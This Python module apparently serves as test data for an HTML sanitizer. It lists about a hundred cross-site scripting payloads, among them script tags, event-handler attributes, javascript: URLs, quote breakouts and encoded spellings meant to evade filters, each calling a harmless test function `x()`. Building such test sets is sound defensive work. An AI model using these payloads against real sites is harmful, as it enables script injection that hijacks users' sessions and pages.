"""A hundred ways to run a script from a text field. Each calls `x()`, which a test defines.

Gathered by kind: elements, attributes that run, addresses that run, ways out of an attribute, a
comment, a title, a script or JSON, spellings that filters miss, foreign markup, templates.
"""

_ELEMENTS = """
<script>x()</script>
<SCRIPT>x()</SCRIPT>
<script >x()</script >
<script/x>x()</script>
<script src=data:,x()></script>
<script src="data:text/javascript,x()"></script>
<script type=module>x()</script>
<scr<script>ipt>x()</scr</script>ipt>
<<script>x()//<</script>
<script>x()<!--
<script\t>x()</script>
<script\f>x()</script>
<noscript><p title="</noscript><img src=x onerror=x()>">
<iframe srcdoc="<script>parent.x()</script>"></iframe>
<iframe src=javascript:parent.x()>
<object data=javascript:x()>
<embed src=javascript:x()>
<base href=javascript:x()//>
<meta http-equiv=refresh content=0;url=javascript:x()>
<link rel=stylesheet href=javascript:x()>
<style>@import 'javascript:x()';</style>
<style onload=x()></style>
<template><script>x()</script></template>
<frameset onload=x()>
"""
_ATTRIBUTES = """
<img src=x onerror=x()>
<img src=x onerror="x()">
<img src=x onerror=x`1`>
<IMG SRC=x ONERROR=x()>
<img/src=x/onerror=x()>
<img src=x\tonerror=x()>
<img src onerror=x()>
<img src=x:x onerror=x()//
<img srcset=x onerror=x()>
<image src=x onerror=x()>
<video src=x onerror=x()>
<video><source onerror=x()>
<audio src=x onerror=x()>
<body onload=x()>
<body onpageshow=x()>
<svg onload=x()>
<svg/onload=x()>
<input autofocus onfocus=x()>
<select autofocus onfocus=x()>
<textarea autofocus onfocus=x()>
<button autofocus onfocus=x()>
<a autofocus tabindex=1 onfocus=x()>
<details open ontoggle=x()>
<marquee onstart=x()>
<p style=animation:a onanimationstart=x()>
<p contenteditable autofocus onfocus=x()>
<object data=x onerror=x()>
<iframe onload=x()></iframe>
"""
_ADDRESSES = """
<a href=javascript:x()>a</a>
<a href="JaVaScRiPt:x()">a</a>
<a href="java\tscript:x()">a</a>
<a href="&#106;avascript:x()">a</a>
<a href="java&Tab;script:x()">a</a>
<a href="javascript&colon;x()">a</a>
<a href=" javascript:x()">a</a>
<a href="\x01javascript:x()">a</a>
<a href="vbscript:x()">a</a>
<a href="data:text/html,<script>x()</script>">a</a>
<form action=javascript:x()><button>a</button></form>
<button formaction=javascript:x()>a</button>
<img src=javascript:x()>
<table background=javascript:x()>
javascript:x()
[a](javascript:x())
"""
_WAYS_OUT = """
"><script>x()</script>
'><script>x()</script>
"><img src=x onerror=x()>
'><img src=x onerror=x()>
" autofocus onfocus=x() "
' autofocus onfocus=x() '
" onmouseover=x() style="position:fixed;inset:0
--><script>x()</script>
--!><img src=x onerror=x()>
]]><script>x()</script>
</title><script>x()</script>
</textarea><script>x()</script>
</script><script>x()</script>
</style><script>x()</script>
</noscript><img src=x onerror=x()>
"};x();//
';x();//
\\";x();//
\\u0022);x();//
&quot;><img src=x onerror=x()>
&lt;script&gt;x()&lt;/script&gt;
"""
_SPELLINGS = """
%3Cscript%3Ex()%3C/script%3E
\u00abscript\u00bbx()\u00ab/script\u00bb
\uff1cscript\uff1ex()\uff1c/script\uff1e
<img src=x \u2028onerror=x()>
<\u200bscript>x()</script>
<ımg src=x onerror=x()>
<svg><script>x()</script></svg>
<svg><a xlink:href=javascript:x()><text>a
<math><a xlink:href=javascript:x()>a
<math><mtext><table><mglyph><style><img src=x onerror=x()>
{{constructor.constructor('x()')()}}
"""


def _lines(text: str) -> list[str]:
    return [line for line in text.strip("\n").split("\n") if line]


PAYLOADS = [
    line
    for text in (_ELEMENTS, _ATTRIBUTES, _ADDRESSES, _WAYS_OUT, _SPELLINGS)
    for line in _lines(text)
]


def chunks(longest: int) -> list[str]:
    """All of them, several in each text, none of them cut and no text above `longest`."""
    texts: list[str] = []
    for payload in PAYLOADS:
        if texts and len(texts[-1]) + 1 + len(payload) <= longest:
            texts[-1] += f" {payload}"
        else:
            texts.append(payload)
    return texts
